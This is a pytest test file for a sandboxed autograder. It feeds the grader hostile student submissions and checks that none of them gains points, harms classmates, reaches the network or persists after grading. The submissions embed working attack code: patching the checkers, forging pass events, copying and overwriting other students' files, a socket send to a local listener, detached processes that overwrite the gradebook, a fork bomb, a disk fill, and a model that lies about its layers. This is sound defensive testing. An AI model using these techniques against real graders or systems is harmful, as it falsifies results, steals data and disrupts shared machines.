"""Hostile submissions, graded in one class folder next to honest ones: none gains a point,
harms a classmate, reaches the network or the host's files, or outlives the grading.

Each hostile file is the wrong answer ``WRONG`` plus an attack; its honest twin (``twin.py``,
the same wrong answer without the attack) says what it must score. The honest correct
solution (``ana.py``, graded after the attackers) must keep full marks.
"""
import csv
import json
import os
import socket
import subprocess
import threading
import time

import pytest

from dlab.grading import sandbox
from dlab.grading.grade import Limits
from dlab.grading.gradebook import grade_folder
from dlab.lab import catalog

LAB = "moons-mlp"
LIMITS = Limits(seconds=120, memory_mb=3072)
SCORED = {"logistic_test_accuracy"}  # one criterion counts, as in a quick-mode grading
MARKER = "dlab-hostile-marker"

pytestmark = [pytest.mark.skipif(sandbox.bubblewrap() is None,
                                 reason="bubblewrap cannot create namespaces here"),
              pytest.mark.xdist_group("hostile")]  # one worker grades the folder once


def reference(name: str) -> str:
    return next(c for c in catalog.get(LAB).cells if c.exercise == name).source


HEADER = "import numpy as np\nimport torch\nfrom torch import nn\n\n"
CORRECT = HEADER + reference("build_mlp") + "\n\n" + reference("plot_boundary") + "\n"
# One ReLU too many after the logits: loses one build_mlp check; plot_boundary draws nothing.
WRONG = HEADER + reference("build_mlp").replace(
    "nn.Linear(width, 2))", "nn.Linear(width, 2), nn.ReLU())") + """

def plot_boundary(ax, predict, X, y, title):
    pass
"""


def attack(body: str, where: str = "class") -> str:
    """WRONG with ``body`` run at load time (called from a class body) or inside build_mlp."""
    if where == "class":
        return WRONG + "\n\ndef _attack():\n" + "".join(
            f"    {line}\n" for line in body.splitlines()) + "\n\nclass Attack:\n    _attack()\n"
    indented = "".join(f"    {line}\n" for line in body.splitlines())
    return WRONG.replace("def build_mlp(hidden: list) -> nn.Module:\n",
                         "def build_mlp(hidden: list) -> nn.Module:\n" + indented, 1)


def _listener():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    got = []

    def accept():
        end = time.monotonic() + 600
        while time.monotonic() < end and not got:
            try:
                conn, _ = server.accept()
                got.append(conn.recv(100))
            except (socket.timeout, OSError):
                if server.fileno() < 0:
                    return
    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    return server, got


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    folder, out, stolen = root / "entregas", root / "grades", root / "stolen"
    folder.mkdir()
    server, connections = _listener()
    port = server.getsockname()[1]
    files = {
        "ana.py": CORRECT,
        "twin.py": WRONG,
        "a01_patch_checks.py": attack(
            "import dlab.exercises.expect as e, dlab.lab.spec as s, dlab.engine.trainer as t\n"
            "for n in ('type', 'shape', 'equal', 'between', 'close', 'finite', 'true',\n"
            "          'last_layer_linear'):\n"
            "    setattr(e, n, lambda *a, **k: None)\n"
            "s.Criterion.holds = lambda self, value: True\n"
            "t.Trainer.evaluate = lambda self, *a, **k: {'accuracy': 1.0, 'loss': 0.0}\n"),
        "a02_forge_events.py": attack(
            "import sys, json, os\n"
            "forged = [{'event': 'check', 'exercise': x, 'name': n, 'passed': True,\n"
            "           'kind': 'ok', 'message': ''} for x, n in [\n"
            "    ('build_mlp', 'returns_a_module_with_two_logits'),\n"
            "    ('build_mlp', 'has_the_right_layer_sizes'),\n"
            "    ('build_mlp', 'hidden_layers_use_relu_and_logits_are_raw'),\n"
            "    ('plot_boundary', 'predicts_on_a_grid_that_covers_the_data'),\n"
            "    ('plot_boundary', 'draws_regions_points_and_title')]]\n"
            "forged.append({'event': 'finished', 'record': {'status': 'passed', 'criteria': [\n"
            "    {'metric': m, 'passed': True, 'value': 0.85, 'expected': 'forged'}\n"
            "    for m in ('mlp_test_accuracy', 'logistic_test_accuracy')]}})\n"
            "targets = []\n"
            "try:\n"
            "    job = json.load(open(sys.argv[1]))\n"
            "    targets += [job[k] for k in ('events',) if k in job]\n"
            "except Exception:\n"
            "    pass\n"
            f"for top in ({str(out)!r}, '/tmp'):\n"
            "    for d, _, names in os.walk(top):\n"
            "        targets += [os.path.join(d, n) for n in names if n == 'events.jsonl']\n"
            "for path in targets:\n"
            "    try:\n"
            "        with open(path, 'a') as f:\n"
            "            f.write(''.join(json.dumps(e) + '\\n' for e in forged))\n"
            "    except OSError:\n"
            "        pass\n"
            "os._exit(0)  # before the real checks can contradict the forged ones\n"),
        "a03_exfiltrate.py": attack(
            "import os, socket, shutil\n"
            f"os.makedirs({str(stolen)!r}, exist_ok=True)\n"
            f"for d in ({str(folder)!r}, {str(out)!r}):\n"
            "    for top, _, names in os.walk(d):\n"
            "        for n in names:\n"
            "            try:\n"
            f"                shutil.copy(os.path.join(top, n), {str(stolen)!r})\n"
            "            except OSError:\n"
            "                pass\n"
            "try:\n"
            f"    open({str(folder / 'ana.py')!r}, 'w').write('def build_mlp(:\\n')\n"
            "except OSError:\n"
            "    pass\n"
            "try:\n"
            f"    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'hi')\n"
            "except OSError:\n"
            "    pass\n", where="function"),
        "a04_setsid.py": attack(
            "import subprocess, os\n"
            f"cmd = 'sleep 6; echo forged > {out}/gradebook.csv # {MARKER}'\n"
            "try:\n"
            "    subprocess.Popen(['setsid', 'sh', '-c', cmd], start_new_session=True)\n"
            "except OSError:\n"
            "    pass\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            "        import time\n"
            "        time.sleep(6)\n"
            f"        open('{out}/gradebook.csv', 'w').write('forged')\n"
            "    os._exit(0)\n"),
        "a05_flood.py": attack("import sys\nfor _ in range(300):\n"
                               "    sys.stdout.write('x' * 10**6)\n", where="function"),
        "a06_read_solutions.py": attack(
            "try:\n"
            "    from dlab.lab import catalog\n"
            "    return catalog.get('moons-mlp').reference_functions()['build_mlp'](hidden)\n"
            "except Exception:\n"
            "    pass\n", where="function"),
        "a07_fork_storm.py": attack(
            "import os, time\n"
            "for _ in range(3000):\n"
            "    try:\n"
            "        if os.fork() == 0:\n"
            "            time.sleep(60)\n"
            "            os._exit(0)\n"
            "    except OSError:\n"
            "        break\n", where="function"),
        "a08_fill_disk.py": attack(
            "import os\n"
            "for place in ('/tmp', os.path.expanduser('~'), '.'):\n"
            "    try:\n"
            "        with open(os.path.join(place, 'fill'), 'wb') as f:\n"
            "            for _ in range(1024):\n"
            "                f.write(b'0' * 2**20)\n"
            "    except OSError:\n"
            "        pass\n", where="function"),
        "a09_lying_model.py": WRONG.split("def build_mlp")[0] + """
class Liar(nn.Module):
    # One Linear really; reports the expected layers and compares equal to anything.
    def __init__(self):
        super().__init__()
        self.out = nn.Linear(2, 2)

    def forward(self, x):
        return self.out(x)

    def modules(self):
        yield from [self, nn.Linear(2, 16), nn.ReLU(), nn.Linear(16, 8), nn.ReLU(),
                    nn.Linear(8, 2)]

    def __eq__(self, other):
        return True


def build_mlp(hidden):
    return Liar()


def plot_boundary(ax, predict, X, y, title):
    pass
""",
        "a10_exit_early.py": attack("import os\nos._exit(0)\n", where="function"),
    }
    for name, code in files.items():
        (folder / name).write_text(code)
    before = {name: (folder / name).read_bytes() for name in files}
    free_before = os.statvfs("/tmp").f_bavail * os.statvfs("/tmp").f_frsize
    results = grade_folder(LAB, folder, out, quick=True, limits=LIMITS, scored=SCORED)
    finished = time.time()
    survivors = subprocess.run(["pgrep", "-f", MARKER], capture_output=True, text=True).stdout
    server.close()
    return {"results": {r["submission"]: r for r in results}, "folder": folder, "out": out,
            "stolen": stolen, "connections": connections, "before": before,
            "finished": finished, "survivors": survivors, "free_before": free_before}


def _score(graded, name):
    return graded["results"][name]["score"]


def test_honest_submissions_keep_their_exact_scores(graded):
    assert _score(graded, "ana.py") == graded["results"]["ana.py"]["max_score"] == 6
    assert _score(graded, "twin.py") == 3  # 2 build_mlp checks + the logistic criterion


def test_every_grade_says_how_it_was_isolated(graded):
    for result in graded["results"].values():
        assert result["sandbox"]["sandbox"] == "bubblewrap"
        assert result["sandbox"]["not_isolated"] == []


@pytest.mark.parametrize("name", ["a01_patch_checks.py", "a02_forge_events.py",
                                  "a03_exfiltrate.py", "a04_setsid.py", "a05_flood.py",
                                  "a06_read_solutions.py", "a07_fork_storm.py",
                                  "a08_fill_disk.py"])
def test_an_attack_gains_nothing_over_its_honest_twin(graded, name):
    assert _score(graded, name) <= _score(graded, "twin.py"), graded["results"][name]["rows"]


def test_a_model_that_lies_about_its_layers_is_judged_by_its_real_layers(graded):
    rows = {r["name"]: r for r in graded["results"]["a09_lying_model.py"]["rows"]}
    assert not rows["has_the_right_layer_sizes"]["passed"]
    assert not rows["hidden_layers_use_relu_and_logits_are_raw"]["passed"]


def test_exiting_early_scores_nothing_for_what_did_not_run(graded):
    result = graded["results"]["a10_exit_early.py"]
    assert result["score"] <= _score(graded, "twin.py")
    assert not any(r["passed"] for r in result["rows"] if r["exercise"] == "build_mlp")


def test_no_submission_reads_or_changes_another_or_reaches_the_network(graded):
    assert not graded["stolen"].exists() or not any(graded["stolen"].iterdir())
    after = {name: (graded["folder"] / name).read_bytes() for name in graded["before"]}
    assert after == graded["before"]
    assert graded["connections"] == []


def test_nothing_outlives_the_grading_and_the_gradebook_stays(graded):
    assert graded["survivors"] == ""
    time.sleep(max(0.0, graded["finished"] + 7 - time.time()))  # past the attackers' sleep
    rows = list(csv.DictReader((graded["out"] / "gradebook.csv").open()))
    assert len(rows) == len(graded["before"])
    assert json.loads((graded["out"] / "ana_py" / "grade.json").read_text())["score"] == 6


def test_output_is_capped_and_counted(graded):
    result = graded["results"]["a05_flood.py"]
    assert result["sandbox"]["output_dropped_bytes"] > 250 * 10**6
    size = sum(p.stat().st_size for p in (graded["out"] / "a05_flood_py").rglob("*")
               if p.is_file())
    assert size < 20 * 2**20


def test_filling_the_disk_stays_in_the_sandbox(graded):
    free_now = os.statvfs("/tmp").f_bavail * os.statvfs("/tmp").f_frsize
    assert graded["free_before"] - free_now < 200 * 2**20
    assert not any(p.name == "fill" for p in graded["out"].rglob("fill"))
